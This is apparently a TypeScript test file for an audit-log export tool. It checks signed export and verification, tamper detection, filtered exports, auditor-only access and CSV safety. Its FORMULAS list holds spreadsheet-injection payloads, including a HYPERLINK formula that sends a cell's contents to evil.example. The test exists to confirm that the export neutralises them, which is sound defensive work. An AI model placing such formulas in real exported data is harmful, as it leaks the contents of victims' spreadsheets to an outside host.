import { execFile } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { signedBy } from '../../lib/audit/checkpoint.ts';
import { Verification } from '../../lib/audit/verify.ts';
import type { VerifiedLog } from '../../lib/workflow/verify.ts';
import { until } from '../../local/demo/visitor.ts';
import { readCsv } from '../audit/readCsv.ts';
import { addUser, RULES, temporaryFolder, useSystem } from './system.ts';

const world = useSystem({ rules: RULES });
const folder = temporaryFolder();

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '＝1+1',
  '|cmd',
  "'=1",
];
const NEWLINES = 'first\r\n"second", third\u2028fourth';

/** The command line, as an auditor runs it. Not synchronously: the system would close the connections that stand idle meanwhile. */
const countersign = (...args: string[]) =>
  new Promise<{ status: number; stdout: string; stderr: string }>((done) => {
    const env = { ...process.env, COUNTERSIGN_TOKEN: world.audrey.token };
    execFile(process.execPath, ['bin/countersign.ts', ...args], { maxBuffer: 1 << 28, env }, (error, stdout, stderr) =>
      done({ status: typeof error?.code === 'number' ? error.code : 0, stdout, stderr }),
    );
  });

/** How many documents come with a fact. A key that is seen first comes with its policy. */
const DOCUMENTS: Record<string, number> = { SUBMITTED: 2, BASELINED: 1 };

let publicKey = '';
it('fills a history', async () => {
  const { ana, sam, audrey } = world;
  for (const reason of [...FORMULAS, NEWLINES]) {
    const { body } = await ana.submit({ ...addUser(), reason, ticket: reason.slice(0, 20).trim() });
    await sam.send('POST', `/changes/${body.id}/decisions`, { decision: 'reject', comment: reason });
  }
  const verified = await until('everything to be over and signed', 60, async () => {
    const { body } = await audrey.get<VerifiedLog>('/audit/verify');
    const { body: closed } = await audrey.get<{ events: object[] }>('/audit/events?type=CLOSED');
    const over = closed.events.length === FORMULAS.length + 1;
    return over && body.ok && body.protectedTo === body.entries ? body : undefined;
  });
  publicKey = join(folder, 'notary.pem');
  writeFileSync(publicKey, verified.publicKey);
});

it('is written whole by the command line, and verified without the system', async () => {
  const { running } = world;
  const exported = await countersign('export', '--api', running.api);
  expect([exported.status, exported.stderr]).toEqual([0, '']);
  const file = join(folder, 'history.ndjson');
  writeFileSync(file, exported.stdout);
  const verified = await countersign('verify', '--export', file, '--public-key', publicKey);
  expect(verified.stdout).toMatch(/^clean: /);
  expect(verified.status).toBe(0);
  const lines = exported.stdout.trimEnd().split('\n');
  const entries = lines.map((line) => JSON.parse(line)).filter(({ kind }) => kind === 'entry');
  for (const { body, documents } of entries) expect(documents?.length ?? 0).toBe(DOCUMENTS[JSON.parse(body).type] ?? 0);

  writeFileSync(file, exported.stdout.replace('sam@example.com', 'kim@example.com'));
  expect((await countersign('verify', '--export', file, '--public-key', publicKey)).status).toBe(1);
  writeFileSync(file, lines.slice(0, -1).join('\n'));
  expect((await countersign('verify', '--export', file, '--public-key', publicKey)).status).toBe(2);
});

it('holds with a filter the entries of that filter alone, each as it is stored, and says that it is not whole', async () => {
  const { body } = await world.ana.get<{ changes: { id: string }[] }>('/changes?limit=1');
  const id = body.changes[0]?.id ?? '';
  const { text } = await world.audrey.get(`/audit/export?change=${id}&person=sam@example.com`);
  const records = text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  expect(records.map(({ kind }) => kind)).toEqual(['log', 'entry', 'checkpoint']);
  expect(JSON.parse(records[1].body)).toMatchObject({ type: 'REJECTED', change: id });
  const { person } = JSON.parse(records[1].body);
  expect(records[1].openings[person].value).toBe('sam@example.com');
  const verification = new Verification({ isSigned: signedBy(readFileSync(publicKey, 'utf8')) });
  for (const record of records) verification.take(record);
  expect(verification.verdict()).toMatchObject({ verdict: 'incomplete', entries: 1, checkpoints: 1 });
  expect((await world.audrey.get(`/audit/export?change=${id}&from=2999-01-01`)).text.split('\n')).toHaveLength(3);
});

it('is a CSV in which nothing is a formula, and every text is what it was', async () => {
  const answer = await world.audrey.get('/audit/export?format=csv');
  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(answer.headers.get('content-disposition')).toBe('attachment; filename="countersign.csv"');
  const [columns = [], ...rows] = readCsv(answer.text);
  for (const row of rows) {
    expect(row).toHaveLength(columns.length);
    for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r\n\0|%＝＋－＠]/u);
  }
  const column = (name: string) => rows.map((row) => row[columns.indexOf(name)] ?? '');
  const reasons = column('reason').filter((reason) => reason !== '');
  expect(reasons).toEqual([...FORMULAS.slice(0, -1).map((text) => `'${text}`), "'=1", NEWLINES]);
  expect(column('type')).toContain('CHECKPOINT');
  const types = column('type');
  const documents = column('after_document').filter((text, i) => text !== '' && types[i] === 'SUBMITTED');
  expect(documents).toHaveLength(FORMULAS.length + 1);
  for (const document of documents) expect(JSON.parse(document).Statement).toBeInstanceOf(Array);
  expect((await countersign('export', '--api', world.running.api, '--format', 'csv')).stdout).toBe(answer.text);
});

it('is for auditors, in two formats', async () => {
  expect((await world.ana.get('/audit/export')).status).toBe(403);
  for (const query of [
    'format=xml',
    'limit=5',
    'cursor=abc',
    `cursor=${Buffer.from('{"pk":"x"}').toString('base64url')}`,
  ]) {
    expect((await world.audrey.get(`/audit/export?${query}`)).status, query).toBe(400);
  }
  const refused = await countersign('export', '--api', world.running.api, '--from', 'yesterday');
  expect([refused.status, refused.stdout]).toEqual([2, '']);
});
